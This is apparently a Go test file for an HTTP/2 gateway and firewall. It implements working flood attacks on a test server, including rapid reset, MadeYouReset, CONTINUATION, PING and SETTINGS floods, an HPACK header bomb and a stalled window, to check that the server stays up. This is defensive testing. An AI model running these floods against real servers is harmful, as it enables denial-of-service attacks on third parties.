package gateway

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net/http"
	"runtime"
	"strconv"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"noren/gateway/waf"
)

// flooder is a hostile HTTP/2 client on one connection. It reads nothing it is
// not told to.
type flooder struct {
	*http2.Framer
	conn *tls.Conn
	buf  bytes.Buffer
	enc  *hpack.Encoder
}

func newFlooder(t *testing.T, addr string, settings ...http2.Setting) *flooder {
	t.Helper()
	c, err := tls.Dial("tcp", addr, &tls.Config{ServerName: "x", InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	_ = c.SetDeadline(time.Now().Add(40 * time.Second))
	f := &flooder{Framer: http2.NewFramer(c, c), conn: c}
	f.AllowIllegalWrites = true
	f.enc = hpack.NewEncoder(&f.buf)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		t.Fatal(err)
	}
	if err := f.WriteSettings(settings...); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *flooder) block(fields ...string) []byte {
	f.buf.Reset()
	fields = append([]string{":method", "GET", ":scheme", "https", ":authority", "x", ":path", "/products/list", "user-agent", browserUA, "accept", "text/html"}, fields...)
	for i := 0; i < len(fields); i += 2 {
		_ = f.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return bytes.Clone(f.buf.Bytes())
}

func (f *flooder) get(stream uint32, fields ...string) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.block(fields...), EndHeaders: true, EndStream: true})
}

// drain reads and throws away until the connection ends.
func (f *flooder) drain() { _, _ = io.Copy(io.Discard, f.conn) }

// busyInspector knows how many requests are inspected, ever and at once.
type busyInspector struct {
	Inspector
	all, now, most atomic.Int64
}

func (b *busyInspector) Inspect(ctx context.Context, r *waf.Request) (waf.Result, error) {
	b.all.Add(1)
	n := b.now.Add(1)
	defer b.now.Add(-1)
	for most := b.most.Load(); n > most && !b.most.CompareAndSwap(most, n); most = b.most.Load() {
	}
	return b.Inspector.Inspect(ctx, r)
}

// floodFrames is far more than net/http takes of any of them.
const floodFrames = 30_000

// TestHTTP2Floods: one connection does what the known attacks do, while an
// ordinary buyer on another shops on. The flood ends or is bounded, the buyer
// gets every page, and memory stays where it was. Streams that are reset may go
// on: they end before the firewall, and no more than a hundred run at once.
func TestHTTP2Floods(t *testing.T) {
	tests := []struct {
		name  string
		flood func(f *flooder) error
		ends  bool // the server ends the connection
		// most requests it may cost the firewall
		requests int64
	}{
		{"rapid reset (CVE-2023-44487)", rapidReset, false, floodFrames / 10},
		{"MadeYouReset (CVE-2025-8671)", madeYouReset, false, floodFrames / 10},
		{"CONTINUATION without end (CVE-2023-45288)", continuations, true, 0},
		{"PING, and answers unread", pings, true, 0},
		{"SETTINGS, and answers unread", settingsFlood, false, 0},
		{"a header table bomb", hpackBomb, false, 20},
		{"empty frames of data", emptyData, false, 20},
		{"answers nobody takes", stalledWindow, false, int64(DefaultConnections().Streams) + 10},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			busy := &busyInspector{Inspector: firewall(t)}
			s := stand(t, func(o *Options) {
				o.KV, o.Inspector = nil, busy // limits would stop it earlier
				o.Settings.Sites[0].Upstream = shopServer(t, bigAnswer)
			})
			addr := s.secure(t)
			before := heap()
			f := newFlooder(t, addr)
			done := make(chan error, 1)
			go func() { done <- tt.flood(f) }()
			pages, err := shopOn(addr, done)
			if tt.ends && err == nil {
				t.Error("the flood was taken to its end")
			}
			if grown := heap() - before; grown > 48<<20 {
				t.Errorf("memory grew by %d MiB", grown>>20)
			}
			cost := busy.all.Load() - int64(pages)
			if cost > tt.requests || busy.most.Load() > int64(DefaultConnections().Streams)+1 {
				t.Errorf("%d requests were inspected, %d at once; want at most %d and %d", cost, busy.most.Load(), tt.requests, int64(DefaultConnections().Streams)+1)
			}
			if pages < 0 {
				t.Fatal("the buyer was not served")
			}
			t.Logf("the buyer saw %d pages; the flood cost %d inspections, %d at once, and ended with: %v", pages, cost, busy.most.Load(), err)
		})
	}
}

func heap() int64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return int64(m.HeapAlloc)
}

// bigAnswer is a page, or a megabyte for who asks for it.
func bigAnswer(w http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	if r.Header.Get("X-Big") != "" {
		_, _ = w.Write(make([]byte, 1<<20))
		return
	}
	_, _ = io.WriteString(w, "a page")
}

// shopOn asks for pages one after another until the flood is over, and at least
// a few. -1: one was not served.
func shopOn(addr string, flood <-chan error) (pages int, floodErr error) {
	tr := &http.Transport{TLSClientConfig: &tls.Config{ServerName: "x", InsecureSkipVerify: true}, ForceAttemptHTTP2: true}
	defer tr.CloseIdleConnections()
	client := &http.Client{Timeout: 15 * time.Second, Transport: tr}
	over := false
	for !over || pages < 10 {
		select {
		case floodErr = <-flood:
			over = true
		default:
		}
		req, _ := http.NewRequest("GET", "https://"+addr+"/products/list?name="+strconv.Itoa(pages), nil)
		req.Host = "x"
		req.Header.Set("User-Agent", browserUA)
		req.Header.Set("Accept", "text/html")
		res, err := client.Do(req)
		if err != nil {
			return -1, err
		}
		b, err := io.ReadAll(res.Body)
		res.Body.Close()
		if err != nil || res.StatusCode != 200 || string(b) != "a page" {
			return -1, errors.Join(err, errors.New(res.Status))
		}
		pages++
	}
	return pages, floodErr
}

func rapidReset(f *flooder) error {
	go f.drain()
	for i := range uint32(floodFrames) {
		if err := errors.Join(f.get(2*i+1), f.WriteRSTStream(2*i+1, http2.ErrCodeCancel)); err != nil {
			return err
		}
	}
	return nil
}

// madeYouReset has the server reset the streams: a window of 0 more.
func madeYouReset(f *flooder) error {
	go f.drain()
	for i := range uint32(floodFrames) {
		if err := errors.Join(f.get(2*i+1), f.WriteWindowUpdate(2*i+1, 0)); err != nil {
			return err
		}
	}
	return nil
}

func continuations(f *flooder) error {
	go f.drain()
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block(), EndStream: true})
	for i := 0; i < floodFrames && err == nil; i++ {
		err = f.WriteContinuation(1, false, f.block("x-"+strconv.Itoa(i), string(bytes.Repeat([]byte("a"), 2<<10)))) // 60 MiB in all
	}
	return err
}

func pings(f *flooder) error {
	for range 40 * floodFrames {
		if err := f.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}

func settingsFlood(f *flooder) error {
	for range 3 * floodFrames {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}); err != nil {
			return err
		}
	}
	return nil
}

// hpackBomb puts one header into the table and names it ten thousand times by a
// byte each: 30 MiB of headers in 10 KiB, again and again.
func hpackBomb(f *flooder) error {
	go f.drain()
	big := string(bytes.Repeat([]byte("a"), 3<<10))
	for i := range uint32(200) {
		block := f.block("x-a", big)
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 10_000)...)
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
	}
	return nil
}

func emptyData(f *flooder) error {
	go f.drain()
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block(), EndHeaders: true})
	for i := 0; i < floodFrames && err == nil; i++ {
		err = f.WriteData(1, false, nil)
	}
	return err
}

// stalledWindow asks for a megabyte on every stream and lets none of it come.
func stalledWindow(f *flooder) error {
	err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	go f.drain()
	for i := range uint32(DefaultConnections().Streams) {
		err = errors.Join(err, f.get(2*i+1, "x-big", "1"))
	}
	return err
}
